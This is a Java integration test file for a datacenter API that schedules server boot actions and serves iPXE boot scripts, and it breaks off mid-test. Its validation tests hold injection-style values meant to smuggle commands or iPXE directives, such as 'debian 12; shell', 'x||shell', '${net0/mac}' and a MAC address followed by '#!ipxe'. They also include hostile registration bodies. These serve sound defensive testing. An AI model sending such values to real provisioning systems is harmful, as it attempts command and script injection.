package net.hostingapi.datacenter;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonValue;
import java.net.InetAddress;
import java.net.URL;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import net.hostingapi.support.Api;
import net.hostingapi.support.Database;
import net.hostingapi.support.Deployments;
import net.hostingapi.support.ServiceTest;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;

/**
 * Server actions end to end: scheduling by the account, the boot scripts and menu a machine
 * fetches, its status reports and the state machine, source-address matching with and without
 * the trusted proxy, and the rate limit.
 * <p>
 * Routes: the test client reaches the service at the machine's IP (what Arquillian reports),
 * where {@code getRemoteAddr()} is that IP and X-Forwarded-For is ignored; and at 127.0.0.1,
 * the one trusted proxy (pom.xml), where X-Forwarded-For names the machine. Each test speaks
 * for machines of its own through 127.0.0.1, so the per-address rate limit (30 a minute in
 * the tests) counts each test on its own.
 */
@ServiceTest
@RunAsClient
class ServerActionsIT {

    private static final String ACTIONS = "/api/v1/datacenter/server-actions";
    private static final String MACHINES = "/api/v1/datacenter/machines";
    private static final Map<Api, String> OWNERS =
            java.util.Collections.synchronizedMap(new java.util.IdentityHashMap<>());
    private static final Set<String> REGISTERED = new java.util.HashSet<>();
    private static final AtomicInteger MACHINE_NUMBERS = new AtomicInteger();
    private static final int RUN = ThreadLocalRandom.current().nextInt(1, 250);

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.service();
    }

    @ArquillianResource
    URL base;

    /** A machine nobody has seen yet: a MAC and an IP address of its own. */
    private record Machine(String mac, String ip) {}

    private static Machine newMachine() {
        int n = MACHINE_NUMBERS.incrementAndGet();
        return new Machine(
                String.format("02:5a:%02x:00:%02x:%02x", RUN, n / 256, n % 256),
                "10." + RUN + "." + (n / 250) + "." + (n % 250 + 1));
    }

    /** Through the trusted proxy (127.0.0.1), speaking for {@code machine}. */
    private Api proxy() throws Exception {
        return Api.at(new URL("http", "127.0.0.1", base.getPort(), "/"));
    }

    private Api.Response fromMachine(Machine machine, String method, String path, JsonObject body) throws Exception {
        return fromAddress(machine.ip(), method, path, body, Map.of());
    }

    private Api.Response fromAddress(
            String ip, String method, String path, JsonObject body, Map<String, String> headers) throws Exception {
        Map<String, String> all = new HashMap<>(headers);
        all.put("X-Forwarded-For", ip);
        return proxy().send(
                        method,
                        path,
                        body == null ? null : "application/json",
                        body == null ? null : body.toString(),
                        all);
    }

    private Api.Response file(Machine caller, String address) throws Exception {
        return fromMachine(
                caller, "GET", ACTIONS + "/file?address=" + URLEncoder.encode(address, StandardCharsets.UTF_8), null);
    }

    private Api.Response menu(Machine caller, String address) throws Exception {
        return fromMachine(
                caller, "GET", ACTIONS + "/menu?address=" + URLEncoder.encode(address, StandardCharsets.UTF_8), null);
    }

    private Api.Response report(Machine machine, String state, Object percent, String text) throws Exception {
        return fromMachine(machine, "POST", ACTIONS + "/status", status(state, percent, text));
    }

    private static JsonObject status(String state, Object percent, String text) {
        JsonObjectBuilder body = Json.createObjectBuilder();
        if (state != null) {
            body.add("state", state);
        }
        if (percent instanceof Integer i) {
            body.add("state_percent", i);
        } else if (percent != null) {
            body.add("state_percent", percent.toString());
        }
        if (text != null) {
            body.add("state_text", text);
        }
        return body.build();
    }

    private static JsonObject schedule(Machine machine, String action, String template, String hostname) {
        JsonObjectBuilder body = Json.createObjectBuilder()
                .add("mac_address", machine.mac())
                .add("address", machine.ip())
                .add("action", action);
        if (template != null) {
            body.add("template", template);
        }
        if (hostname != null) {
            body.add("hostname", hostname);
        }
        return body.build();
    }

    /** A new customer account; its owner's username is kept for the registration of its machines. */
    private Api customer() {
        Api.Customer customer = Api.at(base).newCustomer();
        OWNERS.put(customer.api(), customer.username());
        return customer.api();
    }

    /** Registers {@code machine} to {@code owner}'s account through the operator, once. */
    private Machine register(Api owner, Machine machine) {
        synchronized (REGISTERED) {
            if (REGISTERED.add(machine.mac().toLowerCase())) {
                Api.Response registered = registration(OWNERS.get(owner), machine.mac(), machine.ip());
                assertEquals(201, registered.status(), registered.body());
            }
        }
        return machine;
    }

    private Api.Response scheduleWithoutRegistering(Api owner, Machine machine) {
        return owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null));
    }

    /** The id of {@code owner}'s machine, as its list names it. */
    private static long machineId(Api owner, Machine machine) {
        return owner.get(MACHINES).data().getJsonArray("machines").getValuesAs(JsonObject.class).stream()
                .filter(m -> m.getString("mac_address").equals(machine.mac().toLowerCase()))
                .findFirst()
                .orElseThrow()
                .getJsonNumber("id")
                .longValueExact();
    }

    /** The envelope without what differs between any two answers (request ids). */
    private static String withoutRequestIds(Api.Response response) {
        return response.envelope().getJsonObject("messages").toString();
    }

    /** The operator's registration of a machine to the account whose owner is {@code customer}. */
    private Api.Response registration(String customer, String mac, String... addresses) {
        var list = Json.createArrayBuilder();
        for (String address : addresses) {
            list.add(address);
        }
        return Api.at(base)
                .asOperator()
                .json(
                        "POST",
                        MACHINES + "/create",
                        Json.createObjectBuilder()
                                .add("customer", customer)
                                .add("mac_address", mac)
                                .add("addresses", list)
                                .build());
    }

    /** Schedules on {@code machine}, registered to {@code owner} first if it is not yet. */
    private Api.Response scheduleOn(Api owner, Machine machine, String action, String template, String hostname) {
        register(owner, machine);
        return owner.json("POST", ACTIONS + "/create", schedule(machine, action, template, hostname));
    }

    private JsonObject create(Api owner, Machine machine, String action, String template) {
        Api.Response created = scheduleOn(owner, machine, action, template, null);
        assertEquals(201, created.status(), created.body());
        return created.data().getJsonObject("action");
    }

    private static long id(JsonObject action) {
        return action.getJsonNumber("id").longValueExact();
    }

    private static JsonObject show(Api owner, long id) {
        Api.Response shown = owner.get(ACTIONS + "/show?id=" + id);
        assertEquals(200, shown.status(), shown.body());
        return shown.data().getJsonObject("action");
    }

    private static JsonObject idBody(long id) {
        return Json.createObjectBuilder().add("id", id).build();
    }

    private static String statusUrl() {
        return System.getenv("PUBLIC_BASE_URL") + ACTIONS + "/status";
    }

    private static void assertScript(Api.Response response) {
        assertEquals(200, response.status(), response.body());
        assertTrue(response.header("Content-Type").startsWith("text/plain"), response.header("Content-Type"));
        assertTrue(response.body().startsWith("#!ipxe\n"), response.body());
        IpxeSyntax.assertValid(response.body());
    }

    private static void assertLocalBoot(Api.Response response) {
        assertScript(response);
        assertTrue(response.body().contains("\nsanboot --no-describe --drive 0x80 || exit\n"), response.body());
        assertFalse(response.body().contains("kernel") || response.body().contains("chain"), response.body());
    }

    private static void assertError(Api.Response response, int status, int code) {
        assertEquals(status, response.status(), response.body());
        assertTrue(response.header("Content-Type").startsWith("application/json"), response.header("Content-Type"));
        assertEquals("error", response.envelope().getString("status"));
        assertEquals(code, response.errorCodes().get(0), response.body());
    }

    // --- scheduling -------------------------------------------------------------------------

    @Test
    void schedulingAnswersTheActionWithANumericId() {
        Api owner = customer();
        Machine machine = register(owner, newMachine());
        Api.Response created = owner.json(
                "POST",
                ACTIONS + "/create",
                Json.createObjectBuilder()
                        .add("mac_address", machine.mac().toUpperCase().replace(':', '-'))
                        .add("address", machine.ip())
                        .add("action", "INSTALL")
                        .add("template", "debian-12")
                        .add("hostname", "Web1.Example.com")
                        .build());
        assertEquals(201, created.status(), created.body());
        assertEquals(
                2030,
                created.envelope()
                        .getJsonObject("messages")
                        .getJsonArray("success")
                        .getJsonObject(0)
                        .getInt("code"));
        JsonObject action = created.data().getJsonObject("action");
        assertEquals(JsonValue.ValueType.NUMBER, action.get("id").getValueType());
        assertEquals(machine.mac(), action.getString("mac_address"), "stored in one spelling");
        assertEquals(machine.ip(), action.getString("address"));
        assertEquals("INSTALL", action.getString("action"));
        assertEquals("debian-12", action.getString("template"));
        assertEquals("web1.example.com", action.getString("hostname"));
        assertEquals("PENDING", action.getString("state"));
        assertEquals(0, action.getInt("state_percent"));
        assertTrue(action.isNull("finished_at"));
        assertTrue(action.getString("created_at").matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}"));

        List<JsonObject> listed =
                owner.get(ACTIONS).data().getJsonArray("actions").getValuesAs(JsonObject.class);
        assertEquals(
                List.of(id(action)), listed.stream().map(ServerActionsIT::id).toList());
        JsonObject shown = show(owner, id(action));
        assertEquals(machine.mac(), shown.getString("mac_address"));
        assertEquals(0, shown.getJsonArray("reports").size());
    }

    @Test
    void schedulingValidatesEveryField() {
        Api owner = customer();
        Api.Response bad = owner.json(
                "POST",
                ACTIONS + "/create",
                Json.createObjectBuilder()
                        .add("mac_address", "aa:bb:cc:dd:ee")
                        .add("address", "server1.example")
                        .add("action", "REBOOT")
                        .add("template", "debian 12; shell")
                        .add("hostname", "web_1 ${x}")
                        .build());
        assertEquals(422, bad.status(), bad.body());
        assertEquals(Set.of("mac_address", "address", "action", "template", "hostname"), Set.copyOf(bad.errorFields()));

        Machine machine = newMachine();
        Api.Response noTemplate = scheduleOn(owner, machine, "INSTALL", null, null);
        assertEquals(422, noTemplate.status(), noTemplate.body());
        assertEquals(List.of("template"), noTemplate.errorFields());
        assertEquals(List.of(4221), noTemplate.errorCodes());
        Api.Response templateForRescue = scheduleOn(owner, machine, "RESCUE", "debian-12", null);
        assertEquals(422, templateForRescue.status());
        assertEquals(List.of(4225), templateForRescue.errorCodes());
        for (String injection : List.of("${net0/mac}", "x||shell", "#x", "-x", "a b")) {
            Api.Response refused = scheduleOn(owner, machine, "INSTALL", injection, null);
            assertEquals(422, refused.status(), injection);
            assertEquals(List.of("template"), refused.errorFields());
        }
        Api.Response missing = owner.json(
                "POST", ACTIONS + "/create", Json.createObjectBuilder().build());
        assertEquals(Set.of("mac_address", "action"), Set.copyOf(missing.errorFields()));
        assertEquals(0, owner.get(ACTIONS).data().getJsonArray("actions").size(), "nothing stored");
    }

    @Test
    void aMachineHasAtMostOneUnfinishedAction() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long first = id(create(owner, machine, "RESCUE", null));

        Machine sameMac = new Machine(machine.mac().toUpperCase(), machine.ip());
        assertError(owner.json("POST", ACTIONS + "/create", schedule(sameMac, "LOCAL_BOOT", null, null)), 409, 4090);
        assertError(
                owner.json(
                        "POST",
                        ACTIONS + "/create",
                        Json.createObjectBuilder()
                                .add("machine", machineId(owner, machine))
                                .add("action", "LOCAL_BOOT")
                                .build()),
                409,
                4090);

        assertEquals(200, report(machine, "RUNNING", 5, "Rescue system booted").status());
        assertError(scheduleOn(owner, machine, "RESCUE", null, null), 409, 4090);

        assertEquals(200, owner.json("POST", ACTIONS + "/cancel", idBody(first)).status());
        long second = id(create(owner, machine, "RESCUE", null));
        assertNotEquals(first, second, "once finished, the machine may get a new action");
    }

    /**
     * The audit's case: account B schedules RESCUE on a machine of account A. B gets 404, exactly
     * as for a machine that does not exist, and the machine's next boot runs A's action.
     */
    @Test
    void anotherAccountsMachineIsNotFoundAndKeepsItsOwnersAction() throws Exception {
        Api a = customer();
        Api b = customer();
        Machine machine = register(a, newMachine());
        Machine nowhere = newMachine();

        Api.Response byMac = b.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null));
        Api.Response byId = b.json(
                "POST",
                ACTIONS + "/create",
                Json.createObjectBuilder()
                        .add("machine", machineId(a, machine))
                        .add("action", "RESCUE")
                        .build());
        Api.Response unknown = b.json("POST", ACTIONS + "/create", schedule(nowhere, "RESCUE", null, null));
        Api.Response unknownId = b.json(
                "POST",
                ACTIONS + "/create",
                Json.createObjectBuilder()
                        .add("machine", Long.MAX_VALUE / 2)
                        .add("action", "RESCUE")
                        .build());
        for (Api.Response refused : List.of(byMac, byId, unknown, unknownId)) {
            assertError(refused, 404, 4040);
        }
        assertEquals(
                withoutRequestIds(unknown),
                withoutRequestIds(byMac),
                "a foreign machine reads as one that does not exist");
        assertEquals(withoutRequestIds(unknownId), withoutRequestIds(byId));
        assertEquals(0, b.get(ACTIONS).data().getJsonArray("actions").size(), "nothing scheduled for B");
        assertEquals(0, b.get(MACHINES).data().getJsonArray("machines").size(), "B sees none of A's machines");
        assertLocalBoot(file(machine, machine.mac()));

        long id = id(create(a, machine, "RESCUE", null));
        Api.Response boots = file(machine, machine.mac());
        assertScript(boots);
        assertTrue(boots.body().contains("# Server action " + id + ": RESCUE\n"), boots.body());
        assertError(b.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null)), 404, 4040);
    }

    @Test
    void theOperatorRegistersListsAndRemovesMachines() throws Exception {
        Api.Customer customer = Api.at(base).newCustomer();
        Api owner = customer.api();
        OWNERS.put(owner, customer.username());
        Api operator = Api.at(base).asOperator();
        Machine machine = newMachine();
        String second = newMachine().ip();
        Api.Response created = operator.json(
                "POST",
                MACHINES + "/create",
                Json.createObjectBuilder()
                        .add("customer", customer.username())
                        .add("mac_address", machine.mac().toUpperCase().replace(':', '-'))
                        .add(
                                "addresses",
                                Json.createArrayBuilder().add(machine.ip()).add(second))
                        .add("hostname", "Web1.Example.com")
                        .build());
        assertEquals(201, created.status(), created.body());
        assertEquals(
                2033,
                created.envelope()
                        .getJsonObject("messages")
                        .getJsonArray("success")
                        .getJsonObject(0)
                        .getInt("code"));
        JsonObject registered = created.data().getJsonObject("machine");
        assertEquals(JsonValue.ValueType.NUMBER, registered.get("id").getValueType());
        assertEquals(customer.username(), registered.getString("customer"));
        assertEquals(machine.mac(), registered.getString("mac_address"), "stored in one spelling");
        assertEquals(
                List.of(machine.ip(), second),
                registered.getJsonArray("addresses").getValuesAs(jakarta.json.JsonString::getString));
        assertEquals("web1.example.com", registered.getString("hostname"));
        synchronized (REGISTERED) {
            REGISTERED.add(machine.mac());
        }

        List<JsonObject> listed =
                owner.get(MACHINES).data().getJsonArray("machines").getValuesAs(JsonObject.class);
        assertEquals(List.of(registered), listed, "the account lists its machine");
        assertTrue(
                operator.get(MACHINES).data().getJsonArray("machines").getValuesAs(JsonObject.class).stream()
                        .anyMatch(m -> m.equals(registered)),
                "the operator sees every account's machines");

        // A MAC or IP address belongs to at most one machine.
        Api.Response sameMac =
                registration(customer.username(), machine.mac(), newMachine().ip());
        assertError(sameMac, 409, 4090);
        Api.Response sameIp = registration(customer.username(), newMachine().mac(), second);
        assertError(sameIp, 409, 4090);
        Api.Response invalid = operator.json(
                "POST",
                MACHINES + "/create",
                Json.createObjectBuilder()
                        .add("customer", "no-such-customer-" + RUN)
                        .add("mac_address", "aa:bb:cc")
                        .add("addresses", Json.createArrayBuilder().add("10.0.0.300"))
                        .add("hostname", "web_1")
                        .build());
        assertEquals(422, invalid.status(), invalid.body());
        assertEquals(Set.of("mac_address", "addresses[0]", "hostname"), Set.copyOf(invalid.errorFields()));
        Api.Response noAddresses =
                registration(customer.username(), newMachine().mac());
        assertEquals(422, noAddresses.status(), noAddresses.body());
        Api.Response unknownCustomer = registration(
                "no-such-customer-" + RUN, newMachine().mac(), newMachine().ip());
        assertEquals(422, unknownCustomer.status(), unknownCustomer.body());
        assertEquals(List.of("customer"), unknownCustomer.errorFields());

        // Customers neither register nor remove machines.
        assertError(
                owner.json(
                        "POST",
                        MACHINES + "/create",
                        Json.createObjectBuilder()
                                .add("customer", customer.username())
                                .add("mac_address", newMachine().mac())
                                .add(
                                        "addresses",
                                        Json.createArrayBuilder()
                                                .add(newMachine().ip()))
                                .build()),
                403,
                4030);
        assertError(owner.json("POST", MACHINES + "/delete", idBody(id(registered))), 403, 4030);

        // Scheduled for the second address, the action is reported from either address of the machine.
        long action = id(owner.json(
                        "POST",
                        ACTIONS + "/create",
                        Json.createObjectBuilder()
                                .add("machine", id(registered))
                                .add("action", "RESCUE")
                                .build())
                .data()
                .getJsonObject("action"));
        assertEquals(machine.ip(), show(owner, action).getString("address"), "the first address when none is named");
        assertEquals(
                id(registered), show(owner, action).getJsonNumber("machine").longValueExact());
        Api.Response fromSecond =
                fromAddress(second, "POST", ACTIONS + "/status", status("RUNNING", 10, "Booted"), Map.of());
        assertEquals(200, fromSecond.status(), fromSecond.body());
        assertEquals(action, id(fromSecond.data().getJsonObject("action")));
        assertError(
                owner.json(
                        "POST",
                        ACTIONS + "/create",
                        Json.createObjectBuilder()
                                .add("machine", id(registered))
                                .add("address", newMachine().ip())
                                .add("action", "RESCUE")
                                .build()),
                422,
                4222);

        // Removal cancels the unfinished action and keeps its history.
        Api.Response removed = operator.json("POST", MACHINES + "/delete", idBody(id(registered)));
        assertEquals(200, removed.status(), removed.body());
        assertEquals(3040, removed.warningCodes().get(0));
        JsonObject cancelled = show(owner, action);
        assertEquals("CANCELLED", cancelled.getString("state"));
        assertTrue(cancelled.isNull("machine"));
        assertEquals(
                "OPERATOR", cancelled.getJsonArray("reports").getJsonObject(1).getString("reported_by"));
        assertEquals(0, owner.get(MACHINES).data().getJsonArray("machines").size());
        assertError(operator.json("POST", MACHINES + "/delete", idBody(id(registered))), 404, 4040);
        assertError(scheduleWithoutRegistering(owner, machine), 404, 4040);
    }

    /**
     * Actions scheduled before the inventory (rows without a machine, as the upgrade leaves those it
     * could not give one) keep booting and reporting until they end; registering their machine
     * adopts the same account's and cancels another account's.
     */
    @Test
    void actionsFromBeforeTheInventoryKeepWorkingUntilTheMachineIsRegistered() throws Exception {
        Api.Customer a = Api.at(base).newCustomer();
        Api.Customer b = Api.at(base).newCustomer();
        OWNERS.put(a.api(), a.username());
        Machine ofA = newMachine();
        Machine usedByB = newMachine();
        long aAction = legacyAction(a, ofA, "RESCUE");
        long bAction = legacyAction(b, usedByB, "RESCUE");

        Api.Response boots = file(ofA, ofA.mac());
        assertScript(boots);
        assertTrue(boots.body().contains("# Server action " + aAction + ": RESCUE\n"), boots.body());
        assertEquals(200, report(usedByB, "RUNNING", 5, "Rescue system booted").status());
        assertTrue(show(a.api(), aAction).isNull("machine"));
        assertError(b.api().json("POST", ACTIONS + "/create", schedule(usedByB, "RESCUE", null, null)), 404, 4040);

        Api operator = Api.at(base).asOperator();
        Api.Response adopting = registration(a.username(), ofA.mac(), ofA.ip());
        assertEquals(201, adopting.status(), adopting.body());
        assertEquals(0, adopting.warningCodes().size());
        long machine = id(adopting.data().getJsonObject("machine"));
        assertEquals(machine, show(a.api(), aAction).getJsonNumber("machine").longValueExact(), "adopted");
        assertEquals("PENDING", show(a.api(), aAction).getString("state"));

        // the operator gives B's machine to A: B's unfinished action ends, A's machine boots locally
        Api.Response taking = registration(a.username(), usedByB.mac(), usedByB.ip());
        assertEquals(201, taking.status(), taking.body());
        assertEquals(3040, taking.warningCodes().get(0));
        JsonObject cancelled = show(b.api(), bAction);
        assertEquals("CANCELLED", cancelled.getString("state"));
        assertTrue(cancelled.isNull("machine"), "B's action never becomes A's machine's");
        JsonArray reports = cancelled.getJsonArray("reports");
        assertEquals("OPERATOR", reports.getJsonObject(reports.size() - 1).getString("reported_by"));
        assertLocalBoot(file(usedByB, usedByB.mac()));
        assertError(report(usedByB, "RUNNING", 50, "Still here"), 404, 4040);
        synchronized (REGISTERED) {
            REGISTERED.add(ofA.mac());
            REGISTERED.add(usedByB.mac());
        }
    }

    /** An action as scheduled before the inventory: a row without a machine. */
    private static long legacyAction(Api.Customer owner, Machine machine, String kind) {
        long account =
                owner.created().getJsonObject("customer").getJsonNumber("id").longValueExact();
        Database.update(
                "INSERT INTO server_actions (account_id, mac_address, address, action, state, state_percent,"
                        + " created_at, updated_at) VALUES (?, ?, ?, ?, 'PENDING', 0, UTC_TIMESTAMP(), UTC_TIMESTAMP())",
                account,
                machine.mac(),
                machine.ip(),
                kind);
        return ((Number) Database.value(
                        "SELECT id FROM server_actions WHERE mac_address = ? AND state = 'PENDING'", machine.mac()))
                .longValue();
    }

    /** What a careless script or an attacker with the operator's token sends: 4xx, never 5xx, nothing stored. */
    @Test
    void hostileRegistrationsAreRefusedAndStoreNothing() {
        Api.Customer customer = Api.at(base).newCustomer();
        Api operator = Api.at(base).asOperator();
        String mac = newMachine().mac();
        List<String> bodies = List.of(
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":\"10.1.2.3\"}",
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":{\"a\":1}}",
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":[[\"10.1.2.3\"]]}",
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac + "\",\"addresses\":[null]}",
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":[\"10.1.2.3\",\"10.1.2.3\"]}",
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac + "\",\"addresses\":["
                        + "\"10.1.2.3\",".repeat(40) + "\"10.1.2.4\"]}",
                "{\"customer\":\"" + customer.username() + "\\u0000\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":[\"10.1.2.3\"]}",
                "{\"customer\":[\"" + customer.username() + "\"],\"mac_address\":12,\"addresses\":[\"10.1.2.3\"]}",
                "{\"customer\":\"" + customer.username() + "\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":[\"::ffff:10.1.2.3\",\"10.1.2.3\"]}",
                "{\"customer\":\"" + "x".repeat(5000) + "\",\"mac_address\":\"" + mac
                        + "\",\"addresses\":[\"10.1.2.3\"]}");
        for (String body : bodies) {
            Api.Response answer = operator.send("POST", MACHINES + "/create", "application/json", body, Map.of());
            assertTrue(answer.status() == 400 || answer.status() == 422, body + " -> " + answer);
            assertEquals("error", answer.envelope().getString("status"), body);
        }
        Api.Response form = operator.form(
                "POST",
                MACHINES + "/create",
                "customer=" + customer.username() + "&mac_address=" + mac + "&addresses[0][x]=10.1.2.3");
        assertEquals(422, form.status(), form.body());
        assertEquals(
                0, customer.api().get(MACHINES).data().getJsonArray("machines").size(), "nothing stored");
        for (String id : List.of("0", "-1", "1e20", "x", "99999999999999999999")) {
            Api.Response answer = operator.send(
                    "POST", MACHINES + "/delete", "application/json", "{\"id\":\"" + id + "\"}", Map.of());
            assertEquals(422, answer.status(), id + " -> " + answer);
        }
    }

    @Test
    void concurrentSchedulesForOneMachineLeaveExactlyOne() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        ExecutorService pool = Executors.newFixedThreadPool(6);
        try {
            List<Future<Api.Response>> answers = new ArrayList<>();
            for (int i = 0; i < 6; i++) {
                answers.add(pool.submit(() -> scheduleOn(owner, machine, "RESCUE", null, null)));
            }
            List<Integer> statuses = new ArrayList<>();
            for (Future<Api.Response> answer : answers) {
                statuses.add(answer.get().status());
            }
            assertEquals(1, statuses.stream().filter(s -> s == 201).count(), statuses.toString());
            assertTrue(statuses.stream().allMatch(s -> s == 201 || s == 409), statuses.toString());
        } finally {
            pool.shutdownNow();
        }
        assertEquals(1, owner.get(ACTIONS).data().getJsonArray("actions").size());
    }

    @Test
    void anotherAccountsActionsDoNotExist() {
        Api owner = customer();
        Api other = customer();
        long id = id(create(owner, newMachine(), "RESCUE", null));
        assertError(other.get(ACTIONS + "/show?id=" + id), 404, 4040);
        assertError(other.json("POST", ACTIONS + "/cancel", idBody(id)), 404, 4040);
        assertEquals(0, other.get(ACTIONS).data().getJsonArray("actions").size());
        assertEquals("PENDING", show(owner, id).getString("state"), "not cancelled by the other account");
        assertError(Api.at(base).get(ACTIONS), 401, 4010);
        assertError(
                Api.at(base).json("POST", ACTIONS + "/create", schedule(newMachine(), "RESCUE", null, null)),
                401,
                4010);
    }

    // --- file and menu ----------------------------------------------------------------------

    @Test
    void fileChainsToThePendingActionInEverySpellingOfTheAddress() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "INSTALL", "debian-12"));
        String upper = machine.mac().toUpperCase();
        List<String> spellings = List.of(
                machine.mac(),
                upper,
                upper.replace(':', '-'),
                machine.mac().replace(':', '-'),
                machine.mac().substring(0, 9) + upper.substring(9),
                machine.ip());
        String expected = null;
        for (String spelling : spellings) {
            Api.Response script = file(machine, spelling);
            assertScript(script);
            assertEquals("no-store", script.header("Cache-Control"));
            if (expected == null) {
                expected = script.body();
            }
            assertEquals(expected, script.body(), spelling);
        }
        assertTrue(
                expected.contains(
                        "\nkernel http://boot.test.example/debian-12/linux initrd=initrd auto=true priority=critical "
                                + "url=http://boot.test.example/preseed/debian-12.cfg server_action=" + id
                                + " status_url=" + statusUrl()
                                + " template=debian-12 || goto failed\n"),
                expected);
        assertTrue(
                expected.contains(
                        "\ninitrd --name initrd http://boot.test.example/debian-12/initrd.gz || goto failed\nboot || goto failed\n"),
                expected);
        assertTrue(
                expected.endsWith(
                        ":failed\necho Server action " + id + ": the boot failed, booting from the local disk\n"
                                + "sanboot --no-describe --drive 0x80 || exit\n"),
                expected);
    }

    @Test
    void fileBootsLocallyWhenNothingIsPendingOrTheAddressIsUnknown() throws Exception {
        Api owner = customer();
        Machine caller = newMachine();
        Api.Response unknownMac = file(caller, "02:ff:ff:ff:ff:fe");
        assertLocalBoot(unknownMac);
        Api.Response unknownIp = file(caller, "192.0.2.254");
        assertLocalBoot(unknownIp);
        assertEquals(unknownMac.body(), unknownIp.body());

        Machine running = newMachine();
        create(owner, running, "INSTALL", "debian-12");
        assertEquals(200, report(running, "RUNNING", 1, "Installer started").status());
        Api.Response started = file(caller, running.mac());
        assertLocalBoot(started);
        assertEquals(
                unknownMac.body(), started.body(), "a started action is not booted again, and tells nothing of itself");

        Machine local = newMachine();
        long id = id(create(owner, local, "LOCAL_BOOT", null));
        Api.Response localBoot = file(caller, local.mac());
        assertLocalBoot(localBoot);
        assertTrue(localBoot.body().contains("Server action " + id));
    }

    @Test
    void cancellingMakesFileBootLocally() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "INSTALL", "debian-12"));
        assertTrue(file(machine, machine.mac()).body().contains("kernel "));
        Api.Response cancelled = owner.json("POST", ACTIONS + "/cancel", idBody(id));
        assertEquals(200, cancelled.status(), cancelled.body());
        assertEquals(
                2031,
                cancelled
                        .envelope()
                        .getJsonObject("messages")
                        .getJsonArray("success")
                        .getJsonObject(0)
                        .getInt("code"));
        JsonObject action = cancelled.data().getJsonObject("action");
        assertEquals("CANCELLED", action.getString("state"));
        assertFalse(action.isNull("finished_at"));
        JsonObject entry = action.getJsonArray("reports").getJsonObject(0);
        assertEquals("OWNER", entry.getString("reported_by"));
        assertEquals("CANCELLED", entry.getString("state"));
        assertLocalBoot(file(machine, machine.mac()));
        assertLocalBoot(file(machine, machine.ip()));
        assertError(owner.json("POST", ACTIONS + "/cancel", idBody(id)), 409, 4093);
        assertError(report(machine, "RUNNING", 10, "too late"), 404, 4040);
    }

    @Test
    void malformedAddressesAre400InTheEnvelope() throws Exception {
        Machine caller = newMachine();
        for (String bad :
                List.of("aa:bb:cc:dd:ee", "not-an-address", "999.1.1.1", "aa:bb:cc:dd:ee:ff\n#!ipxe", "${net0/mac}")) {
            assertError(file(caller, bad), 400, 4002);
            assertError(menu(caller, bad), 400, 4002);
        }
        assertEquals(List.of("address"), file(caller, "aa:bb:cc:dd:ee").errorFields());
        assertError(fromMachine(caller, "GET", ACTIONS + "/file", null), 422, 4221);
        assertError(fromMachine(caller, "GET", ACTIONS + "/menu?address=", null), 422, 4221);
    }

    @Test
    void scriptsComeInTheEnvelopeWhenJsonIsAskedFor() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        create(owner, machine, "INSTALL", "alma-9");
        Map<String, String> json = Map.of("Accept", "application/json");
        for (String endpoint : List.of("file", "menu")) {
            Api.Response enveloped = fromAddress(
                    machine.ip(), "GET", ACTIONS + "/" + endpoint + "?address=" + machine.mac(), null, json);
            assertEquals(200, enveloped.status(), enveloped.body());
            assertEquals("application/json; charset=utf-8", enveloped.header("Content-Type"));
            assertEquals("success", enveloped.envelope().getString("status"));
            String script = enveloped.data().getString("script");
            assertTrue(script.startsWith("#!ipxe\n"));
            IpxeSyntax.assertValid(script);
            assertTrue(script.contains("template=alma-9"), script);
            Api.Response plain = fromAddress(
                    machine.ip(),
                    "GET",
                    ACTIONS + "/" + endpoint + "?address=" + machine.mac(),
                    null,
                    Map.of("Accept", "text/plain, application/json;q=0.5"));
            assertScript(plain);
            assertEquals(script, plain.body(), "the same script either way");
            assertScript(fromAddress(
                    machine.ip(),
                    "GET",
                    ACTIONS + "/" + endpoint + "?address=" + machine.mac(),
                    null,
                    Map.of("Accept", "*/*")));
        }
    }

    @Test
    void theMenuOffersThePendingActionAsDefault() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(scheduleOn(owner, machine, "RESCUE", null, "db1.example.com")
                .data()
                .getJsonObject("action"));
        Api.Response menu = menu(machine, machine.mac().replace(':', '-'));
        assertScript(menu);
        String body = menu.body();
        assertTrue(body.startsWith("#!ipxe\nmenu Boot menu for db1.example.com\n"), body);
        assertTrue(
                body.contains("\nitem local Boot from the local disk\nitem rescue Rescue system on db1.example.com\n"),
                body);
        assertTrue(
                body.contains("\nchoose --default rescue --timeout 7000 selected || goto local\ngoto ${selected}\n"),
                body);
        // RESCUE is configured (pom.xml) to chain to a script of its own, with the action in settings.
        assertTrue(
